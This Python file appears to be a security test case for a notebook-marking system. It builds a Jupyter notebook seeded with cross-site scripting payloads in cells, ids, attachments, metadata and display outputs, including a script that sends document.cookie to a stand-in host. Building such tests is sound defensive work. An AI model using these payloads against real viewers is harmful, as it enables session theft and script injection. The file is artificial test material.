# ruff: noqa
# Threat: Reaching out. Scripts in outputs, markdown, attachments and ids that would run in a marker's browser.
# Outcome: completed
# Marks: 8

# %% [build]
def build(notebook, files):
    evil = "<script>fetch('http://example.org/'+document.cookie)</script><img src=x onerror=alert(1)><iframe srcdoc='<script>1</script>'>"
    notebook["cells"].insert(0, {"cell_type": "markdown", "id": "\"><script>", "metadata": {"trusted": True}, "source": evil + "[x](javascript:alert(1))",
                                 "attachments": {"x.svg": {"image/svg+xml": evil}, "y.png": {"image/png": evil}}})
    notebook["metadata"]["title"] = notebook["metadata"]["authors"] = evil
# %% before double
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
evil = "<script>alert(1)</script>"
for thing in (HTML(evil), Javascript("alert(1)"), SVG(f"<svg xmlns='http://www.w3.org/2000/svg'>{evil}</svg>"), Markdown(evil), Latex(r"\href{javascript:alert(1)}{x}")):
    display(thing, metadata={"trusted": True})
display({"text/html": evil, "application/vnd.jupyter.widget-view+json": {"model_id": "x"}}, raw=True)
print(evil, "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07")
